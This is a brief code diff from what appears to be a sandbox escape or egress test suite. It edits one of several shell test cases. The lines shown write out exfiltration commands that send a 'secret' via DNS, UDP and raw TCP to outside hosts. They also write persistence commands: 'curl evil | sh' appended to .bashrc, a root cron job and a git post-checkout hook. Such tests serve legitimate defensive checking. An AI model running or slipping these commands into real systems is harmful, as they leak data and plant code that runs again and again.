@@ -60,8 +60,8 @@ shell("dns", "getent hosts c2VjcmV0.evil.demo.test && "
       "bash -c 'echo secret > /dev/udp/9.9.9.9/53'")
 shell("raw", "bash -c 'exec 3<>/dev/tcp/198.51.100.7/4444; echo secret >&3;"
       " read -t 5 answer <&3 && echo got $answer'")
-shell("profile", "echo 'curl evil | sh' >> ~/../.bashrc 2>&1 || "
-      "echo 'curl evil | sh' >> \"$DEMO_HOME/.bashrc\"")
+shell("profile", "for home in ~ \"$DEMO_HOME\"; do "
+      "echo 'curl evil | sh' >> \"$home/.bashrc\"; done")
 shell("system", "echo '* * * * * root evil' > /etc/cron.d/evil")
 shell("hook", "cd repository && echo 'curl evil | sh' > "
       ".git/hooks/post-checkout")
